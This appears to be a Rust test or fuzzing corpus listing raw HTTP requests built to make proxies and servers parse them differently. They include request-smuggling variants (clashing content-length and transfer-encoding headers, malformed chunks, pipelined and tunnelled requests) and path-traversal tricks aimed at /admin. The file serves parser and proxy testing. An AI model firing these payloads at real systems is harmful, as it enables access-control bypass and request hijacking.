//! Requests that programs read differently: each tries to get `/smuggled` or `/admin` past a rule.

/// A head of `POST /p`, with these fields and this rest.
macro_rules! post {
    ($rest:literal) => {
        concat!("POST /p HTTP/1.1\r\nhost: db\r\n", $rest).as_bytes()
    };
}

pub(crate) const PAYLOADS: &[&[u8]] = &[
    // Two framings, in both orders, and in spellings that one program knows and another does not.
    post!("content-length: 6\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("transfer-encoding: chunked\r\ncontent-length: 4\r\n\r\n2a\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\nx: xxx\r\n\r\n0\r\n\r\n"),
    post!("transfer-encoding: identity, chunked\r\ncontent-length: 3\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("transfer-encoding: chunked\r\ntransfer-encoding: identity\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("content-length: 5\r\ntransfer-encoding : chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("content-length: 5\r\ntransfer-encoding: xchunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("content-length: 5\r\ntransfer-encoding:\x0bchunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("content-length: 5\r\ntransfer-encoding:\r\n chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("content-length: 5\r\nx: y\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("content-length: 5\r\nx: y\rtransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("content-length: 5\r\n transfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("content-length: 5\r\ntransfer_encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("connection: content-length\r\ncontent-length: 36\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("connection: transfer-encoding\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    // Lengths that are none, or two.
    post!("content-length: 0\r\ncontent-length: 36\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("content-length: 36\r\ncontent-length: 36\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("content-length: 0, 36\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("content-length: +0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("content-length: 0x0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("content-length: 00\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("content-length: 18446744073709551616\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("content-length: -1\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    // Chunks.
    post!("transfer-encoding: chunked\r\n\r\n0x0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("transfer-encoding: chunked\r\n\r\n10000000000000000\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("transfer-encoding: chunked\r\n\r\n1;\nxx\r\n24\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("transfer-encoding: chunked\r\n\r\n1\nx\n0\n\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("transfer-encoding: chunked\r\n\r\n1\r\nxGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("transfer-encoding: chunked\r\n\r\n-1\r\nx\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("transfer-encoding: chunked\r\n\r\n 1\r\nx\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("transfer-encoding: chunked\r\n\r\n0\r\nhost: evil\r\ncontent-length: 36\r\nx-role: admin\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n"),
    post!("transfer-encoding: chunked\r\n\r\n24\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n\r\n0\r\n\r\n"),
    // Bodies where there are none, and requests behind requests.
    b"GET /p HTTP/1.1\r\nhost: db\r\ncontent-length: 36\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET /p HTTP/1.1\r\nhost: db\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET /p HTTP/1.1\r\nhost: db\r\n\r\nGET /p/2 HTTP/1.1\r\nhost: db\r\n\r\nGET /p/3 HTTP/1.1\r\nhost: db\r\n\r\n",
    b"HEAD /p HTTP/1.1\r\nhost: db\r\ncontent-length: 4\r\n\r\nabcdGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"OPTIONS * HTTP/1.1\r\nhost: db\r\ncontent-length: 0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET /p HTTP/1.0\r\nhost: db\r\nconnection: keep-alive\r\ncontent-length: 36\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"POST /p HTTP/1.0\r\nhost: db\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET /p HTTP/1.1\r\nhost: db\r\nconnection: close\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"POST /p HTTP/1.1\r\nhost: db\r\nexpect: 100-continue\r\ncontent-length: 36\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"POST /p HTTP/1.1\r\nhost: db\r\nexpect: 100-continue\r\nexpect: x\r\ncontent-length: 1000\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"POST /p HTTP/1.1\r\nhost: db\r\ncontent-length: 1000\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    // What would make a tunnel of the connection.
    b"GET /p HTTP/1.1\r\nhost: db\r\nconnection: upgrade\r\nupgrade: h2c\r\nhttp2-settings: AA\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET /p HTTP/1.1\r\nhost: db\r\nconnection: upgrade\r\nupgrade: nothing\r\ncontent-length: 36\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"CONNECT db:80 HTTP/1.1\r\nhost: db:80\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    // Lines and names.
    b"GET /p HTTP/1.1\nhost: db\n\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET /p HTTP/1.1\r\nhost: db\r\nx: a\r\n\tb\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET /p HTTP/1.1\r\nhost: db\r\nx: a\0b\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET /p HTTP/1.1 \r\nhost: db\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET /p /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET /p\tHTTP/1.1\r\nhost: db\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET /p\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    // Paths.
    b"GET /p/../admin HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET /p/%2e%2e/admin HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET //admin HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET /%61dmin HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET /p\\..\\admin HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET /p%2f..%2fadmin HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET /p/..;/admin HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET /admin%00.png HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET http://db/admin HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET http://db/p/../smuggled HTTP/1.1\r\nhost: db\r\n\r\n",
    b"GET /p#/../admin HTTP/1.1\r\nhost: db\r\n\r\n",
];
